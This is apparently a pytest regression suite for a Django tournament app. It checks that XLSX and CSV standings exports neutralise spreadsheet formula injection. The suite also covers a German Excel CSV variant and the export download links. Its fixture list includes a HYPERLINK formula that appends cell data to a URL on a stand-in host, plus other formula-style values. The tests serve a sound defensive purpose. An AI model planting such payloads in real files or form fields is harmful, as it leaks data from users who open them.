"""Standings exports hold text, never formulas (issue 16, item 2).

A player named ``=HYPERLINK("http://…?leak="&A1,"Klick")`` was written into the XLSX
export as a live formula and into the CSV as a cell that Excel and LibreOffice run.  Now a
text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a string cell
in XLSX and starts with ``'`` in CSV (OWASP, "CSV Injection"); numbers stay numbers, also
negative point totals.  The "CSV (Excel, deutsch)" download is UTF-8 with BOM, ``;``
separated, with a decimal comma.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories.tournaments import running_event
from tournament.models import Player, Tournament

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
    "+49 711 123456",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(director) -> Tournament:
    """Six players named like formulas (first name and club), one lost game at table 1 so
    that its declarer has a negative total, and a lost-game fee of 0.50 EUR."""
    people = [(text, f"Nachname{i}", text) for i, text in enumerate(FORMULAS, start=1)]
    tournament = running_event(people, director, melds=(20, 20, 60), lost_game_fee=Decimal("0.50"))
    hand = tournament.round_set.get(number=1).tables.order_by("number").first().hands.get()
    assert min(hand.scores) < 0
    return tournament


def download(client, tournament: Tournament, fmt: str):
    response = client.get(reverse("archive:standings", args=[tournament.pk, fmt]))
    assert response.status_code == 200, fmt
    return response


def test_xlsx_writes_formula_like_names_as_string_cells(client, hostile):
    response = download(client, hostile, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for typed in FORMULAS:
        # the club exactly as typed; a CR may come back as a line feed, as XML reads it
        # unless the writer escapes it (openpyxl does with lxml installed)
        text = typed if typed in texts else typed.replace("\r", "\n")
        assert text in texts
        assert any(t.startswith(text + " Nachname") for t in texts)  # the name
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", cell.coordinate
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert any(isinstance(n, int) and n < 0 for n in numbers)  # a negative total
    assert Decimal("0.5") in {Decimal(str(n)) for n in numbers}  # the fee


def rows_of(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def check_guarded(rows: list[list[str]]) -> None:
    header, *body = rows
    name, club, total = header.index("Name"), header.index("Verein"), header.index("Gesamt")
    assert len(body) == len(FORMULAS)
    assert sorted(r[club] for r in body) == sorted("'" + text for text in FORMULAS)
    assert sorted(r[name] for r in body) == sorted(
        f"'{text} Nachname{i}" for i, text in enumerate(FORMULAS, start=1)
    )
    totals = [int(r[total]) for r in body]  # plain numbers, no quote
    assert min(totals) < 0
    for row in body:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" and (cell[0] != "-" or cell[1:].isdigit())


def test_csv_prefixes_formula_like_text_with_a_quote(client, hostile):
    response = download(client, hostile, "csv")
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert not text.startswith("\ufeff")
    rows = rows_of(text)
    check_guarded(rows)
    fee = rows[0].index("Gebühr €")
    assert {r[fee] for r in rows[1:]} >= {"0.50"}


def test_german_excel_csv_has_bom_semicolons_and_decimal_commas(client, hostile):
    response = download(client, hostile, "de.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "rangliste" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = rows_of(response.content.decode("utf-8-sig"), delimiter=";")
    check_guarded(rows)
    fee = rows[0].index("Gebühr €")
    assert {r[fee] for r in rows[1:]} >= {"0,50"}
    assert not any("0.50" in cell for row in rows for cell in row)


def test_german_csv_keeps_the_round_filter(client, hostile):
    url = reverse("archive:standings", args=[hostile.pk, "de.csv"]) + "?runde=1"
    response = client.get(url)
    assert response.status_code == 200
    header = rows_of(response.content.decode("utf-8-sig"), delimiter=";")[0]
    assert "R1" in header and "R2" not in header


def test_standings_page_links_every_download(client, hostile):
    html = client.get(reverse("scoring:standings", args=[hostile.pk])).content.decode()
    for fmt in ("csv", "de.csv", "xlsx"):
        assert f'href="{reverse("archive:standings", args=[hostile.pk, fmt])}"' in html
    assert "CSV (Excel, deutsch)" in html


def test_xlsx_takes_control_characters_xml_cannot_hold(client, hostile):
    Player.objects.filter(first_name="-1+1").update(first_name="Form\x0cfeed\x01")
    response = download(client, hostile, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "Form feed  Nachname3" in [c.value for row in sheet.iter_rows() for c in row]


def test_unknown_export_formats_are_404(client, hostile):
    for fmt in ("pdf", "json", "de.xlsx", "html"):
        assert client.get(reverse("archive:standings", args=[hostile.pk, fmt])).status_code == 404
